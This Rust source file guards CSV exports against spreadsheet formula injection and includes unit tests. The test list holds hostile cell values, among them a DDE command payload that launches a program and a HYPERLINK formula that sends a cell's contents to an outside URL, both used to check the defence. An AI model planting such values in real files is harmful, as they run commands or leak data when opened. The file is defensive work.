//! Text that a spreadsheet would take for a formula when it opens a CSV file.

/// What begins a formula, in half width and in the full width of a Chinese keyboard.
const BEGINNINGS: &[char] = &['=', '+', '-', '@', '＝', '＋', '－', '＠'];

/// What spreadsheets pass over before they look for a formula, or begin one with.
const CONTROLS: &[char] = &['\t', '\r', '\n'];

/// The text as a CSV file may hold it: what begins like a formula gets an apostrophe in front, which spreadsheets take
/// for "this is text".
pub fn neutral(text: &str) -> String {
    if begins_a_formula(text) { format!("'{text}") } else { text.to_owned() }
}

fn begins_a_formula(text: &str) -> bool {
    let is_passed_over =
        |c: char| c.is_whitespace() || c.is_control() || matches!(c, '\u{200b}' | '\u{2060}' | '\u{feff}');
    text.starts_with(CONTROLS) || text.trim_start_matches(is_passed_over).starts_with(BEGINNINGS)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_a_spreadsheet_would_run_is_made_text() {
        for hostile in [
            "=1+1",
            "=HYPERLINK(\"http://example.com/?\"&A1,\"点我\")",
            "=cmd|' /C calc'!A0",
            "+1+1",
            "-1+1",
            "-",
            "@SUM(A1:A9)",
            "\t=1+1",
            "\tA01",
            "\r=1+1",
            "\n=1+1",
            "  =1+1",
            "\u{3000}=1+1",
            "\u{a0}=1+1",
            "\u{200b}=1+1",
            "\u{feff}=1+1",
            "\u{0}=1+1",
            "＝1+1",
            "＋1",
            "－1",
            "＠SUM(A1)",
            " ＝1+1",
        ] {
            assert_eq!(neutral(hostile), format!("'{hostile}"), "{hostile:?}");
        }
    }

    #[test]
    fn what_is_no_formula_stays_as_it_is() {
        for plain in
            ["", " ", "A01", "李明", "2014-03-05", "1-2", "a=b", "'=1+1", "10%", "（－）", "¥5", "\"=1\""]
        {
            assert_eq!(neutral(plain), plain);
        }
    }
}
